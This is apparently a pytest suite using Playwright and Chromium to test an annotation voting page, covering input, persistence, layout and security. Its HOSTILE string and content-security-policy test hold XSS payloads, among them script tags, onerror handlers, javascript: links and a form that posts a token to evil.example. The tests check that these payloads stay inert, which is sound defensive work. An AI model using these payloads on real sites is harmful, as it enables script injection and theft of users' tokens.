"""The voting page in a real browser: Debian's Chromium, driven by Playwright."""

from __future__ import annotations

import os
from collections.abc import AsyncIterator
from pathlib import Path
from typing import Any

import pytest
import pytest_asyncio

pytest.importorskip("nh3", reason="the extra `evaluate` is not installed")
pytest.importorskip("playwright.async_api", reason="playwright is not installed")

from playwright import async_api as playwright

from tests.support.annotating import Page, page, votes_in

CHROMIUM = Path("/usr/bin/chromium")
FLAGS = (
    "--headless", "--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run",
    "--disable-background-networking", "--disable-component-update", "--disable-sync",
)  # fmt: skip
WIDE, NARROW = {"width": 1280, "height": 800}, {"width": 390, "height": 844}
HOSTILE = """\
# <script>window.hacked = 1; alert(1)</script>
<img src=x onerror="window.hacked = 2; alert(2)"> <img src="http://evil.example/beacon.png">
![pixel](http://evil.example/pixel.png) [click](javascript:window.hacked=3) <a href="javascript:alert(3)">
[local](/name) [good](http://evil.example/page "title") <http://evil.example/auto>

<base href="http://evil.example/"><form action="http://evil.example/steal"><input name=token></form>
<style>body { display: none; background: url(http://evil.example/css) }</style>
<link rel="stylesheet" href="http://evil.example/x.css">
<meta http-equiv="refresh" content="0;url=http://evil.example/">
<iframe src="http://evil.example/"></iframe><svg onload="window.hacked = 4"></svg>
<object data="//evil.example/o"></object>
</div></section></form></main></body></html><textarea><!-- <plaintext> ${7*7} {{ 7*7 }}

| a | b |
|---|---|
| wide | {wide} |

```html
<script>window.hacked = 5</script>
{wide}
```
"""
ANSWER = HOSTILE.replace("{wide}", "w" * 300)
CHOICES = ("left", "tie", "right")

pytestmark = [
    pytest.mark.asyncio(loop_scope="module"),
    pytest.mark.skipif(not CHROMIUM.exists(), reason=f"no Chromium at {CHROMIUM}"),
]


@pytest_asyncio.fixture(scope="module", loop_scope="module")
async def browser(tmp_path_factory: pytest.TempPathFactory) -> AsyncIterator[Any]:
    """One for all tests; each person has a context of their own."""
    home = str(tmp_path_factory.mktemp("home"))
    async with playwright.async_playwright() as driver:
        found = await driver.chromium.launch(
            executable_path=str(CHROMIUM), args=list(FLAGS), env={**os.environ, "HOME": home}
        )
        try:
            yield found
        finally:
            await found.close()


async def tab(browser: Any, site: Page, name: str, size: dict[str, int] = WIDE, **more: Any) -> Any:
    """A window of one person's own, past the page that asks for the name."""
    found = await (await browser.new_context(viewport=size, **more)).new_page()
    found.trouble = []
    found.on("pageerror", lambda error: found.trouble.append(f"error: {error}"))
    found.on("console", lambda said: found.trouble.append(said.text) if said.type == "error" else None)
    found.on("dialog", lambda dialog: found.trouble.append(f"dialog: {dialog.message}"))
    found.on(
        "request", lambda r: found.trouble.append(r.url) if not r.url.startswith(f"{site.url}/") else None
    )
    await found.goto(f"{site.url}/?token={site.token}")
    assert site.token not in found.url
    await found.get_by_label("Your name").fill(name)
    await found.keyboard.press("Enter")
    await found.wait_for_url("**/item/*")
    return found


async def choose(found: Any, *places: str) -> None:
    for criterion, place in zip(("Helpful", "Honest", "Harmless"), places, strict=True):
        await found.get_by_role("group", name=criterion).locator(f"label.{place}").click()


async def saved(found: Any, how: str = "mouse") -> None:
    """Saves, and waits for the page that follows."""
    before = found.url
    if how == "keys":
        await found.keyboard.press("Enter")
    else:
        await found.get_by_role("button", name="Save and next").click()
    await found.wait_for_url(lambda url: url != before)


def said(run: Path, who: str) -> list[tuple[str, ...]]:
    """A person's votes as places, in the order in which they were cast."""

    def place(choice: str, left: str) -> str:
        return "tie" if choice == "tie" else "left" if choice == left else "right"

    own = sorted((v for v in votes_in(run) if v.annotator == who), key=lambda v: v.cast_at)
    return [tuple(place(c, v.left) for c in (v.helpful, v.honest, v.harmless)) for v in own]


async def test_two_people_vote_by_mouse_and_by_keys_at_once(tmp_path: Path, browser: Any) -> None:
    run = tmp_path / "run"
    async with page(run, count=2, wanted=2) as site:
        ann, bob = await tab(browser, site, "Ann"), await tab(browser, site, "Bob")
        assert ann.url != bob.url  # the pair with the fewest people
        await choose(ann, "left", "tie", "right")
        await saved(ann)
        await bob.keyboard.press("3")
        await bob.keyboard.press("4")
        await bob.keyboard.press("n")
        await bob.keyboard.type("by keys: 789sb")
        await bob.keyboard.press("Escape")
        await bob.keyboard.press("8")
        assert "All chosen" in await bob.get_by_role("status").inner_text()
        await saved(bob, "keys")
        assert said(run, "Ann") == [("left", "tie", "right")]
        assert said(run, "Bob") == [("right", "left", "tie")]
        assert [v.note for v in votes_in(run) if v.annotator == "Bob"] == ["by keys: 789sb"]
        await bob.keyboard.press("b")  # back, and another vote
        await bob.get_by_text("You have voted on this pair").wait_for()
        await bob.keyboard.press("1")
        await saved(bob, "keys")
        assert said(run, "Bob") == [("left", "left", "tie")]
        await bob.keyboard.press("s")
        await bob.get_by_role("button", name="Show me what I skipped").wait_for()
        assert not ann.trouble + bob.trouble


async def test_an_incomplete_vote_is_held_back_by_the_browser(tmp_path: Path, browser: Any) -> None:
    async with page(tmp_path / "run") as site:
        ann = await tab(browser, site, "Ann")
        await ann.get_by_role("link", name="Skip to the votes").focus()
        await ann.keyboard.press("1")  # wherever the focus is
        await ann.locator("h1").click(force=True)
        await ann.keyboard.press("Enter")
        await ann.wait_for_function("document.activeElement.name === 'honest'")
        assert votes_in(tmp_path / "run") == ()


async def test_a_reload_and_a_closed_window_keep_what_was_begun(tmp_path: Path, browser: Any) -> None:
    async with page(tmp_path / "run") as site:
        ann = await tab(browser, site, "Ann")
        await choose(ann, "left", "tie", "right")
        await ann.get_by_label("Note").fill("half a thought")
        await ann.reload()
        for criterion, place in (("helpful", "left"), ("honest", "tie"), ("harmless", "right")):
            assert await ann.locator(f"input[name={criterion}][value={place}]").is_checked()
        again = await ann.context.new_page()
        await ann.close()
        await again.goto(site.url)
        assert await again.get_by_label("Note").input_value() == "half a thought"
        await saved(again)
        assert await again.get_by_label("Note").input_value() == ""
        assert not await again.locator("input[type=radio]:checked").count()
        assert said(tmp_path / "run", "Ann") == [("left", "tie", "right")]


@pytest.mark.parametrize("size", [WIDE, NARROW], ids=["wide", "narrow"])
async def test_a_hostile_answer_does_nothing(tmp_path: Path, browser: Any, size: dict[str, int]) -> None:
    async with page(tmp_path / "run", count=1, answers={0: ANSWER}) as site:
        ann = await tab(browser, site, "Ann", size)
        assert await ann.evaluate("window.hacked") is None
        assert (
            await ann.locator(
                ".text :is(script, img, iframe, style, link, meta, base, form, svg, input)"
            ).count()
            == 0
        )
        links = await ann.locator(".text a[href]").evaluate_all(
            "all => all.map(a => [a.href, a.rel, a.target])"
        )
        safe = "noopener noreferrer nofollow"
        assert links == [
            ["http://evil.example/page", safe, "_blank"],
            ["http://evil.example/auto", safe, "_blank"],
        ]
        assert await ann.evaluate("document.baseURI") == ann.url
        assert await ann.locator("main .panel").is_visible()  # its closing tags have closed nothing
        assert "<script>window.hacked = 1; alert(1)</script>" in await ann.locator(".text h4").inner_text()
        assert await ann.evaluate("document.documentElement.scrollWidth <= innerWidth")
        await choose(ann, "tie", "tie", "tie")
        await saved(ann)
        assert said(tmp_path / "run", "Ann") == [("tie", "tie", "tie")]
        assert not ann.trouble


async def test_a_script_that_got_into_the_page_would_not_run(tmp_path: Path, browser: Any) -> None:
    """The content-security policy holds by itself."""
    async with page(tmp_path / "run") as site:
        ann = await tab(browser, site, "Ann")
        tried = """() => {
            const attempts = [
                () => { document.body.innerHTML += '<img src=x onerror="window.hacked = 1">'; },
                () => { const made = document.createElement('script'); made.text = 'window.hacked = 2';
                        document.body.append(made); },
                () => { const made = document.createElement('script'); made.src = 'http://evil.example/x.js';
                        document.body.append(made); },
                () => { document.body.setAttribute('onclick', 'window.hacked = 3'); document.body.click(); },
                () => { const made = document.createElement('style');
                        made.textContent = 'body { display: none }'; document.body.append(made); },
            ];
            const thrown = attempts.filter((attempt) => { try { attempt(); } catch { return true; } });
            return [window.hacked ?? null, getComputedStyle(document.body).display, thrown.length];
        }"""
        assert await ann.evaluate(tried) == [None, "block", 4]


async def test_a_narrow_screen_shows_all_without_scrolling_sideways(tmp_path: Path, browser: Any) -> None:
    async with page(tmp_path / "run", count=1, answers={0: "word " * 2000}) as site:
        ann = await tab(browser, site, "Ann", NARROW, has_touch=True)
        await ann.evaluate(
            """() => { document.querySelector('.where strong').textContent = 'Pair 1000';
                       document.querySelector('.tally span').textContent = '999 done'; }"""
        )
        assert await ann.evaluate("document.documentElement.scrollWidth <= innerWidth")
        left = await ann.locator("#left").bounding_box()
        right = await ann.locator("#right").bounding_box()
        assert left["y"] + left["height"] <= right["y"]  # one above the other
        await ann.get_by_role("link", name="Vote", exact=True).tap()
        for label in await ann.locator("label.choice").all():
            box = await label.bounding_box()
            assert box["height"] >= 44  # what a thumb needs
        await choose(ann, "right", "tie", "left")
        await saved(ann)
        assert said(tmp_path / "run", "Ann") == [("right", "tie", "left")]


async def test_the_page_works_without_scripts(tmp_path: Path, browser: Any) -> None:
    async with page(tmp_path / "run") as site:
        ann = await tab(browser, site, "Ann", java_script_enabled=False)
        first = ann.url
        await choose(ann, "left", "right", "tie")
        await saved(ann)
        await ann.get_by_role("link", name="Back").click()
        await ann.wait_for_url(first)
        await ann.get_by_role("link", name="Continue without a change").click()
        await ann.get_by_role("button", name="Skip").click()
        await ann.wait_for_load_state()
        assert said(tmp_path / "run", "Ann") == [("left", "right", "tie")]


async def test_keys_can_be_turned_off(tmp_path: Path, browser: Any) -> None:
    async with page(tmp_path / "run") as site:
        ann = await tab(browser, site, "Ann")
        await ann.get_by_text("What the words mean").click()
        await ann.get_by_label("Use these keys").uncheck()
        await ann.locator("h1").focus()
        await ann.keyboard.press("1")
        assert not await ann.locator("input[type=radio]:checked").count()
        await ann.reload()
        await ann.keyboard.press("1")
        assert not await ann.locator("input[type=radio]:checked").count()
